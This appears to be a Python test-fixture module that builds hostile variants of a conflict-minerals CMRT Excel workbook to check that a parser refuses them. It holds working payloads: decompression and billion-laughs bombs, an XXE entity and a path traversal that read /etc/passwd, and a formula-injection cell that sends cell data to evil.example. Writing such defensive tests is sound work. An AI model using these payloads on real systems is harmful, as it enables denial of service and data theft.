"""Workbooks that are a genuine CMRT but for one part: bombs, lies, and what careless tools write."""

import re

from oredesk.core.refusal import RefusalCode

from .corpus import hostile
from .making import genuine_part, genuine_with, repeated

_TOO_COMPLEX, _DAMAGED = RefusalCode.TOO_COMPLEX, RefusalCode.DAMAGED
_DECLARATION, _SMELTERS, _UNREAD = (f"xl/worksheets/sheet{number}.xml" for number in (4, 5, 11))
_WORKBOOK, _TEXTS, _STYLES = "xl/workbook.xml", "xl/sharedStrings.xml", "xl/styles.xml"
_MAIN = b'xmlns="http://schemas.openxmlformats.org/spreadsheetml/2006/main"'
_SHEET = b"<worksheet " + _MAIN + b"><sheetData>%s</sheetData></worksheet>"


def _declaration(rows_added: bytes = b"", *, before: bytes = b"", after: bytes = b"") -> bytes:
    """The genuine CMRT whose Declaration sheet has got something more."""
    return _with_more(_DECLARATION, rows_added, before=before, after=after)


def _with_more(part: str, rows_added: bytes, *, before: bytes = b"", after: bytes = b"") -> bytes:
    xml = genuine_part(part).replace(b"</sheetData>", rows_added + b"</sheetData>" + after)
    return genuine_with({part: xml.replace(b"<worksheet", before + b"<worksheet", 1)})


def _with_bomb(part: str, block: bytes, times: int, start: bytes = b"") -> bytes:
    """The genuine CMRT with a part that inflates without end."""
    return genuine_with({}, repeated(part.encode(), block, times, start))


@hostile("a sheet that inflates to a gibibyte.xlsx", _TOO_COMPLEX)
def _() -> bytes:
    return _with_bomb(_DECLARATION, bytes(1 << 20), 1024)


@hostile("a gibibyte in a part nobody needs.xlsx")
def _() -> bytes:
    return _with_bomb("xl/media/image1.png", bytes(1 << 20), 1024)


@hostile("128 MB of shared texts.xlsx", _TOO_COMPLEX)
def _() -> bytes:
    return _with_bomb(_TEXTS, b"<si><t>a</t></si>" * 65_536, 120, b"<sst " + _MAIN + b">")


@hostile("six million empty shared texts within the limit of a part.xlsx", _TOO_COMPLEX, _DAMAGED)
def _() -> bytes:
    return _with_bomb(_TEXTS, b"<si/>" * 65_536, 96, b"<sst " + _MAIN + b">")


@hostile("two million shared texts within the limit of a part.xlsx", _TOO_COMPLEX, _DAMAGED, RefusalCode.NOT_A_TEMPLATE)
def _() -> bytes:
    return _with_bomb(_TEXTS, b"<si><t>a</t></si>" * 65_536, 40, b"<sst " + _MAIN + b">")


@hostile("billion laughs.xlsx", _TOO_COMPLEX)
def _() -> bytes:
    entities = b"".join(b'<!ENTITY e%d "%s">' % (n, b"&e%d;" % (n - 1) * 10 if n else b"lol") for n in range(10))
    return _declaration(before=b"<!DOCTYPE x [" + entities + b"]>")


@hostile("quadratic entity blow-up.xlsx", _TOO_COMPLEX)
def _() -> bytes:
    return _declaration(b"<row><c><v>&a;</v></c></row>", before=b'<!DOCTYPE x [<!ENTITY a "%s">]>' % (b"a" * 50_000))


@hostile("an entity that names a file of ours.xlsx", _TOO_COMPLEX)
def _() -> bytes:
    return _declaration(before=b'<!DOCTYPE x [<!ENTITY x SYSTEM "file:///etc/passwd">]>')


@hostile("a DTD behind a long comment.xlsx", None, _TOO_COMPLEX, _DAMAGED)
def _() -> bytes:
    padding = b"<!--" + b" " * 5000 + b"-->"
    return _declaration(
        b'<row r="900"><c r="A900"><v>&x;</v></c></row>', before=padding + b'<!DOCTYPE x [<!ENTITY x "y">]>'
    )


@hostile("a DTD in the workbook part.xlsx", _TOO_COMPLEX)
def _() -> bytes:
    xml = genuine_part(_WORKBOOK)
    return genuine_with({_WORKBOOK: xml.replace(b"<workbook", b'<!DOCTYPE x [<!ENTITY x "y">]><workbook', 1)})


@hostile("a value in the last cell a sheet can have.xlsx", _TOO_COMPLEX)
def _() -> bytes:
    return _declaration(b'<row r="1048576"><c r="XFD1048576"><v>1</v></c></row>')


@hostile("a value in the last cell of a sheet nobody reads.xlsx")
def _() -> bytes:
    return _with_more(_UNREAD, b'<row r="1048576"><c r="XFD1048576"><v>1</v></c></row>')


@hostile("a value in the last row.xlsx", _TOO_COMPLEX)
def _() -> bytes:
    return _declaration(b'<row r="1048576"><c r="A1048576"><v>1</v></c></row>')


@hostile("a value in the last row, its address left to the reader.xlsx", _TOO_COMPLEX, _DAMAGED)
def _() -> bytes:
    return _declaration(b'<row r="1048575"/><row><c><v>1</v></c></row>')


@hostile("a value far to the right, in lower case and single quotes.xlsx", _TOO_COMPLEX, _DAMAGED)
def _() -> bytes:
    return _declaration(b"<row r='99999'><c r='xfd99999'><v>1</v></c></row>")


@hostile("150,000 rows.xlsx", _TOO_COMPLEX)
def _() -> bytes:
    return _declaration(b"".join(b'<row r="%d"><c r="A%d"><v>1</v></c></row>' % (n, n) for n in range(500, 150_000)))


@hostile("a row number beyond 32 bits.xlsx", _TOO_COMPLEX)
def _() -> bytes:
    return _declaration(b'<row r="4294967297"><c r="A4294967297"><v>1</v></c></row>')


@hostile("a million cells in one row.xlsx", _TOO_COMPLEX, _DAMAGED)
def _() -> bytes:
    return _declaration(b'<row r="900">' + b"<c><v>1</v></c>" * 1_000_000 + b"</row>")


@hostile("elements half a million deep.xlsx")
def _() -> bytes:
    return _declaration(b"<a>" * 500_000 + b"</a>" * 500_000)


@hostile("an attribute of forty megabytes.xlsx")
def _() -> bytes:
    return _declaration(after=b'<x a="%s"/>' % (b"a" * 40_000_000))


@hostile("rows that never close.xlsx", _TOO_COMPLEX, _DAMAGED)
def _() -> bytes:
    return _with_bomb(_DECLARATION, b"<row " * 65_536, 30, _SHEET.split(b"%s")[0])


@hostile("cells that never close.xlsx", _TOO_COMPLEX, _DAMAGED)
def _() -> bytes:
    rows = b'<row r="1"><c r="A1" ' + b'<c r="A1" ' * 1_000_000
    return genuine_with({_DECLARATION: _SHEET.replace(b"%s", rows)})


@hostile("formulas that never close.xlsx", _TOO_COMPLEX, _DAMAGED)
def _() -> bytes:
    rows = b'<row r="5">' + b'<c r="B5" s="1"><f t="shared" ref="' * 300_000 + b"<v>1</v></row>"
    return genuine_with({_SMELTERS: _SHEET.replace(b"%s", rows)})


@hostile("values that belong to no row.xlsx", _TOO_COMPLEX, _DAMAGED, RefusalCode.LAYOUT_CHANGED)
def _() -> bytes:
    return genuine_with({_SMELTERS: _SHEET.replace(b"%s", b"<v>1" * 500_000)})


@hostile("sheet tags that never close.xlsx", _TOO_COMPLEX, _DAMAGED, RefusalCode.NOT_A_TEMPLATE)
def _() -> bytes:
    return _with_bomb(_WORKBOOK, b"<sheet " * 65_536, 15, b"<workbook " + _MAIN + b"><sheets>")


@hostile("a sheet tag of a million attributes.xlsx", _TOO_COMPLEX, _DAMAGED, RefusalCode.NOT_A_TEMPLATE)
def _() -> bytes:
    return genuine_with({_WORKBOOK: b"<workbook><sheets><sheet " + b'a="' * 1_000_000 + b"/></sheets></workbook>"})


@hostile("a sheet tag of one endless word.xlsx", _TOO_COMPLEX, _DAMAGED, RefusalCode.NOT_A_TEMPLATE)
def _() -> bytes:
    return _with_bomb(_WORKBOOK, b"a" * 65_536, 200, b"<workbook><sheets><sheet ")


@hostile("errors in no cell.xlsx", RefusalCode.LAYOUT_CHANGED)
def _() -> bytes:
    return genuine_with({_DECLARATION: _SHEET.replace(b"%s", b'<row r="1">' + b' t="e"' * 500_000 + b"</row>")})


@hostile("error cells without a value.xlsx", _TOO_COMPLEX, _DAMAGED, RefusalCode.NOT_A_TEMPLATE)
def _() -> bytes:
    cells = b'<row r="1">' + b'<c r="A1" t="e">' * 300_000 + b"</row>"
    return genuine_with({_DECLARATION: _SHEET.replace(b"%s", cells)})


@hostile("formulas without an end in text cells.xlsx", _TOO_COMPLEX, _DAMAGED, RefusalCode.NOT_A_TEMPLATE)
def _() -> bytes:
    cells = b'<row r="1"><c r="A1" t="str">' + b"<f>" * 500_000 + b"</c></row>"
    return genuine_with({_DECLARATION: _SHEET.replace(b"%s", cells)})


@hostile("comments that never close.xlsx", _TOO_COMPLEX, _DAMAGED, RefusalCode.NOT_A_TEMPLATE)
def _() -> bytes:
    return _with_bomb("xl/_rels/workbook.xml.rels", b"<!-- " * 65_536, 15)


@hostile("the whole sheet merged.xlsx")
def _() -> bytes:
    return _declaration(after=b'<mergeCells count="1"><mergeCell ref="A1:XFD1048576"/></mergeCells>')


@hostile("300,000 cell styles.xlsx")
def _() -> bytes:
    xml = genuine_part(_STYLES)
    styles = re.sub(
        rb"</cellXfs>", b'<xf numFmtId="0" fontId="0" fillId="0" borderId="0" xfId="0"/>' * 300_000 + b"</cellXfs>", xml
    )
    return genuine_with({_STYLES: styles})


@hostile("200,000 defined names.xlsx")
def _() -> bytes:
    names = b"".join(b'<definedName name="n%d">Declaration!$A$1</definedName>' % n for n in range(200_000))
    return genuine_with({_WORKBOOK: genuine_part(_WORKBOOK).replace(b"<definedNames>", b"<definedNames>" + names)})


@hostile("20,000 sheets.xlsx", _TOO_COMPLEX)
def _() -> bytes:
    sheets = b"".join(b'<sheet name="s%d" sheetId="%d" r:id="rId4"/>' % (n, n + 20) for n in range(20_000))
    return genuine_with({_WORKBOOK: genuine_part(_WORKBOOK).replace(b"<sheets>", b"<sheets>" + sheets)})


@hostile("no sheets at all.xlsx", RefusalCode.NOT_A_TEMPLATE, _DAMAGED)
def _() -> bytes:
    return genuine_with({_WORKBOOK: b"<workbook " + _MAIN + b"><sheets/></workbook>"})


@hostile("a sheet in UTF-16, as some report writers make it.xlsx")
def _() -> bytes:
    text = genuine_part(_DECLARATION).decode().replace('encoding="UTF-8"', 'encoding="UTF-16"')
    return genuine_with({_DECLARATION: text.encode("utf-16")})


@hostile("a text with bytes that are no UTF-8.xlsx", _DAMAGED)
def _() -> bytes:
    return _declaration(b'<row r="900"><c r="A900" t="inlineStr"><is><t>\xff\xfe\x80</t></is></c></row>')


@hostile("a sheet that says GBK and means it.xlsx", _DAMAGED)
def _() -> bytes:
    text = genuine_part(_DECLARATION).decode().replace('encoding="UTF-8"', 'encoding="GBK"')
    row = '<row r="900"><c r="A900" t="inlineStr"><is><t>冲突矿产</t></is></c></row></sheetData>'
    return genuine_with({_DECLARATION: text.replace("</sheetData>", row).encode("gbk")})


@hostile("control characters, surrogates and direction overrides in a text.xlsx")
def _() -> bytes:
    text = "_x0000_ _x001F_ \u202egpj.exe \ufeff _xD800_ \U0001f600" + "L" * 40_000
    cell = f'<row r="900"><c r="A900" t="inlineStr"><is><t>{text}</t></is></c></row>'
    return _declaration(cell.encode())


@hostile("texts that begin with an equals sign.xlsx")
def _() -> bytes:
    cell = (
        b'<row r="900"><c r="A900" t="inlineStr"><is><t>=HYPERLINK("http://evil.example/?"&amp;A1)</t></is></c></row>'
    )
    return _declaration(cell)


@hostile("a date in the year 99999.xlsx")
def _() -> bytes:
    return _declaration(b'<row r="900"><c r="A900" t="d"><v>99999-99-99</v></c></row>')


@hostile("a serial date beyond all calendars.xlsx")
def _() -> bytes:
    return _declaration(b'<row r="900"><c r="A900" s="10"><v>1e300</v></c><c r="B900" s="10"><v>-1e9</v></c></row>')


@hostile("the truth value 7.xlsx")
def _() -> bytes:
    return _declaration(b'<row r="900"><c r="A900" t="b"><v>7</v></c></row>')


@hostile("a shared text that does not exist.xlsx", _DAMAGED, _TOO_COMPLEX)
def _() -> bytes:
    return _declaration(b'<row r="900"><c r="A900" t="s"><v>99999999</v></c></row>')


@hostile("a macro in it.xlsm")
def _() -> bytes:
    return genuine_with({"xl/vbaProject.bin": b"\xd0\xcf\x11\xe0\xa1\xb1\x1a\xe1" + bytes(2000)})


@hostile("links to other workbooks and to the network.xlsx")
def _() -> bytes:
    link = (
        b'<Relationship Id="rId99" Type="http://x/externalLink" TargetMode="External" Target="http://evil.example/"/>'
    )
    part = "xl/_rels/workbook.xml.rels"
    return genuine_with({part: genuine_part(part).replace(b"</Relationships>", link + b"</Relationships>")})


@hostile("a sheet whose part lies outside the container.xlsx", RefusalCode.NOT_A_TEMPLATE, _DAMAGED)
def _() -> bytes:
    part = "xl/_rels/workbook.xml.rels"
    return genuine_with(
        {part: re.sub(rb'Target="[^"]*sheet4.xml"', b'Target="../../../../etc/passwd"', genuine_part(part))}
    )


@hostile("a genuine CMRT with rows to the bottom of its Smelter List.xlsx", _TOO_COMPLEX)
def _() -> bytes:
    return _with_more(_SMELTERS, b'<row r="1048576"><c r="A1048576" t="str"><v>CID000001</v></c></row>')


@hostile("one long text in every smelter row.xlsx", _TOO_COMPLEX)
def _() -> bytes:
    text = b"<si><t>" + b"x" * 32_000 + b"</t></si></sst>"
    texts = genuine_part(_TEXTS)
    number = texts.count(b"<si>")
    rows = b"".join(
        b'<row r="%d">%s</row>'
        % (row, b"".join(b'<c r="%c%d" t="s"><v>%d</v></c>' % (col, row, number) for col in b"ADGHIJKLMNOPQ"))
        for row in range(3000, 7000)
    )
    return genuine_with(
        {
            _TEXTS: texts.replace(b"</sst>", text),
            _SMELTERS: genuine_part(_SMELTERS).replace(b"</sheetData>", rows + b"</sheetData>"),
        }
    )
